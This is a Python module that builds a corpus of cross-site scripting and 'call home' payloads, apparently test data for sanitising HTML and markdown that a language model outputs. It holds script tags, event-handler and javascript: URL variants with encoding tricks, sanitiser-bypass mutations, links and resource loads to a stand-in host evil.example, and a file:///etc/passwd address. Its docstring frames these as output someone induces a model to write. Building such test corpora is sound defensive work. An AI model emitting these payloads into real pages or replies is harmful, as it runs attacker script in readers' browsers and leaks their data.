"""What somebody makes a model write, to run a script in a reader's browser or to call home.

Every payload that works would call ``hit()``, or ask ``evil.example`` for something.
"""

from __future__ import annotations

import base64
import itertools

EVIL = "//evil.example"
_SCRIPT = "hit()"
_SVG = base64.b64encode(b'<svg xmlns="http://www.w3.org/2000/svg" onload="hit()"/>').decode()
_PAGE = base64.b64encode(b"<script>parent.hit()</script>").decode()

_HTML = (
    f"<script>{_SCRIPT}</script>",
    f"<script src=https:{EVIL}/x.js></script>",
    f"<ScRiPt>{_SCRIPT}</sCrIpT>",
    f"<script\n>{_SCRIPT}</script\n>",
    f"<scr<script>ipt>{_SCRIPT}</scr</script>ipt>",
    f"<img src=x onerror={_SCRIPT}>",
    f'<img src="https:{EVIL}/p.png">',
    f'<img srcset="https:{EVIL}/p.png 1x">',
    f"<IMG SRC=x OnErRoR={_SCRIPT}>",
    f"<img/src/onerror={_SCRIPT}>",
    f"<svg onload={_SCRIPT}></svg>",
    f"<svg><script>{_SCRIPT}</script></svg>",
    f'<svg><animate onbegin="{_SCRIPT}" attributeName=x dur=1s></svg>',
    f'<svg><image href="https:{EVIL}/p.png"/></svg>',
    f'<svg><use href="https:{EVIL}/s.svg#x"/></svg>',
    f"<math><mtext><img src=x onerror={_SCRIPT}></mtext></math>",
    f"<math><style><img src=x onerror={_SCRIPT}></style></math>",
    f"<body onload={_SCRIPT}>",
    f"<video><source onerror={_SCRIPT}></video>",
    f'<video poster="https:{EVIL}/p.png"></video>',
    f'<audio src="https:{EVIL}/a.mp3" autoplay></audio>',
    f"<details open ontoggle={_SCRIPT}>x</details>",
    f"<input autofocus onfocus={_SCRIPT}>",
    f"<select autofocus onfocus={_SCRIPT}></select>",
    f"<marquee onstart={_SCRIPT}>x</marquee>",
    f"<iframe srcdoc='<script>parent.{_SCRIPT}</script>'></iframe>",
    f'<iframe src="javascript:parent.{_SCRIPT}"></iframe>',
    f'<iframe src="https:{EVIL}/"></iframe>',
    f'<object data="javascript:{_SCRIPT}"></object>',
    f'<object data="https:{EVIL}/o.swf"></object>',
    f'<embed src="https:{EVIL}/e.swf">',
    f'<link rel=stylesheet href="https:{EVIL}/c.css">',
    f'<link rel=prefetch href="https:{EVIL}/p">',
    f'<style>@import "https:{EVIL}/c.css";</style>',
    f"<style>*{{background:url(https:{EVIL}/b.png)}}</style>",
    f'<p style="background:url(https:{EVIL}/b.png)">x</p>',
    f'<base href="https:{EVIL}/"><img src="p.png">',
    f'<meta http-equiv=refresh content="0;url=javascript:{_SCRIPT}">',
    f'<form action="javascript:{_SCRIPT}"><button autofocus>x</button></form>',
    f'<form action="https:{EVIL}/"><input name=x></form>',
    f'<a href="javascript:{_SCRIPT}">x</a>',
    f'<a href="https:{EVIL}/" ping="https:{EVIL}/ping">x</a>',
    f"<p onmouseover={_SCRIPT} onclick={_SCRIPT} tabindex=0 onfocus={_SCRIPT}>x</p>",
    f"<noscript><p title='</noscript><img src=x onerror={_SCRIPT}>'></noscript>",
    f"<template><script>{_SCRIPT}</script></template>",
    f"<!--><img src=x onerror={_SCRIPT}>-->",
    f"<![CDATA[<img src=x onerror={_SCRIPT}>]]>",
    f"<textarea></textarea><img src=x onerror={_SCRIPT}>",
    f"<xmp><p title='</xmp><img src=x onerror={_SCRIPT}>'>",
    f"<custom-part onconnected={_SCRIPT} is=x>x</custom-part>",
    f"<svg><foreignObject><img src=x onerror={_SCRIPT}></foreignObject></svg>",
    f"<svg><a href='javascript:{_SCRIPT}'><text y=9>x</text></a></svg>",
    f"<svg><set attributeName=onmouseover to={_SCRIPT}></svg>",
    f"<math href='javascript:{_SCRIPT}'>x</math>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={_SCRIPT}>",
    f"<button popovertarget=x onbeforetoggle={_SCRIPT}>x</button><p popover id=x>x</p>",
    f"<p contenteditable autofocus onfocus={_SCRIPT} onblur={_SCRIPT}>x</p>",
    f"<p style=animation-name:x onanimationstart={_SCRIPT}>x</p>",
    f"<img src=x:x onerror&#61;{_SCRIPT}>",
    f"<img src=`x` onerror={_SCRIPT} title=`>`>",
    f"<script type=module>import 'https:{EVIL}/m.js'</script>",
    f'<script type=importmap>{{"imports": {{"a": "https:{EVIL}/"}}}}</script>',
    f'<input type=image src="https:{EVIL}/p.png">',
    f'<table background="https:{EVIL}/p.png"><tr><td>x</td></tr></table>',
)
_AROUND = (
    "{0}",
    "before {0} after",
    "* item {0}\n* other",
    "> {0}",
    "| a | b |\n|---|---|\n| {0} | x |",
    "```html\n{0}\n```\n{0}",
)
_ADDRESSES = (
    f"javascript:{_SCRIPT}",
    f"JaVaScRiPt:{_SCRIPT}",
    f"java\tscript:{_SCRIPT}",
    f"java%0ascript:{_SCRIPT}",
    f"\x01javascript:{_SCRIPT}",
    f"&#106;avascript:{_SCRIPT}",
    f"&#x6a;&#x61;vascript:{_SCRIPT}",
    f"javascript&colon;{_SCRIPT}",
    f"javascript://x%0a{_SCRIPT}",
    f"vbscript:{_SCRIPT}",
    f"data:text/html;base64,{_PAGE}",
    f"data:image/svg+xml;base64,{_SVG}",
    f"data:text/html,<script>parent.{_SCRIPT}</script>",
    f"blob:https:{EVIL}/1",
    "file:///etc/passwd",
    f"https:{EVIL}/p.png",
    f"{EVIL}/p.png",
    f"\\\\{EVIL[2:]}/p.png",
)
_LINKS = (
    "[text]({0})",
    "[text](<{0}>)",
    "<{0}>",
    "[text][1]\n\n[1]: {0}",
    "![text]({0})",
    "[![text]({0})]({0})",
    '[text]({0} "title\\" onmouseover=hit() x=\\"")',
)

CORPUS = tuple(
    dict.fromkeys(
        [
            *(around.format(html) for html, around in itertools.product(_HTML, _AROUND)),
            *(link.format(address) for address, link in itertools.product(_ADDRESSES, _LINKS)),
        ]
    )
)
